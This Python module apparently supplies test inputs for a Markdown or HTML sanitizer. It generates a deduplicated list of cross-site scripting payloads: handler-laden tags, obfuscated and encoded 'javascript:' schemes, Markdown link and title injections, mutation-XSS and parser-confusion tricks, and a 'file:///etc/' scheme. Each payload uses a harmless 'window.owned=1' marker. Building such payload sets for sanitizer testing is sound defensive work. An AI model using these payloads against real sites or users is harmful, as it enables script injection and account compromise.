"""Texts that try to run in the page, made of tags, handlers, encodings, schemes and Markdown's own forms."""

from itertools import product

OWNED = "window.owned=1"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "input autofocus",
    "details open",
    "a href=x",
    "iframe",
    "math",
)
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "OnErRoR", "onanimationstart")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:")
_ENCODED = (
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "javascript&#58;",
    "java&Tab;script:",
)
_OTHERS = (
    "data:text/html,<script>x</script>",
    "data:image/svg+xml,<svg/onload=x>",
    "vbscript:",
    "file:///etc/",
)
_LINKS = (
    "[x]({0}{1})",
    "[x](<{0}{1}>)",
    "![x]({0}{1})",
    "<{0}{1}>",
    "[x][r]\n\n[r]: {0}{1}",
    '[x](//h "{0}{1}")',
)
_WHOLE = (
    f"<script>{OWNED}</script>",
    f"<scr<script>ipt>{OWNED}</scr</script>ipt>",
    f"<style>@import 'javascript:{OWNED}'</style>",
    f"</p></div><script src=data:,{OWNED}></script>",
    f"<svg><script>{OWNED}</script></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={OWNED}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={OWNED}>">',
    f"<template><img src=x onerror={OWNED}></template>",
    f"<form action=javascript:{OWNED}><button>x</button></form>",
    f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
    f"<object data=javascript:{OWNED}></object>",
    f"<embed src=javascript:{OWNED}>",
    f"<base href=javascript:{OWNED}//>",
    f"<meta http-equiv=refresh content=0;url=javascript:{OWNED}>",
    f"<link rel=stylesheet href=javascript:{OWNED}>",
    f"`<img src=x onerror={OWNED}>`",
    f'```html" onload="{OWNED}\n<script>{OWNED}</script>\n```',
    f"```x onmouseover={OWNED}\ncode\n```",
    f"    <script>{OWNED}</script>",
    f"| a | <img src=x onerror={OWNED}> |\n|---|---|\n| <script>{OWNED}</script> | b |",
    f"> <script>{OWNED}</script>",
    f"# <img src=x onerror={OWNED}>",
    f'!["><img src=x onerror={OWNED}>](https://elsewhere.example/x.png)',
    f"[![x](https://elsewhere.example/x.png)](javascript:{OWNED})",
    f'[x](https://a.example/"onmouseover="{OWNED})',
    f"[x](https://a.example 'y\" onmouseover=\"{OWNED}')",
    f'<https://a.example/"onmouseover="{OWNED}>',
    f"&lt;script&gt;{OWNED}&lt;/script&gt;",
    f"&#60;img src=x onerror={OWNED}&#62;",
    f"\\<script\\>{OWNED}\\</script\\>",
    f"<!--><img src=x onerror={OWNED}>-->",
    f"<![CDATA[><script>{OWNED}</script>]]>",
    f"<?xml version='1.0'?><script>{OWNED}</script>",
    f"%3Cscript%3E{OWNED}%3C/script%3E",
    f"\u202e<script>{OWNED}</script>\u2066",
    f"\x00<scr\x00ipt>{OWNED}</script>",
    f"<IMG SRC=x ONERROR={OWNED}><ScRiPt>{OWNED}</sCrIpT>",
    f"[1](javascript:{OWNED}) [1] <button onclick={OWNED}>[1]</button>",
)


def payloads() -> list[str]:
    """All of them, each once."""
    tags = [f"<{tag} {handler}={OWNED}>" for tag, handler in product(_TAGS, _HANDLERS)]
    quoted = [f"\"'><{tag}/{handler}='{OWNED}'" for tag, handler in product(_TAGS[:4], _HANDLERS[:4])]
    schemes = (*_SCHEMES, *_ENCODED, *_OTHERS)
    links = [form.format(scheme, OWNED) for form, scheme in product(_LINKS, schemes)]
    anchors = [f'<a href="{scheme}{OWNED}">x</a>' for scheme in schemes]
    return list(dict.fromkeys([*_WHOLE, *tags, *quoted, *links, *anchors]))
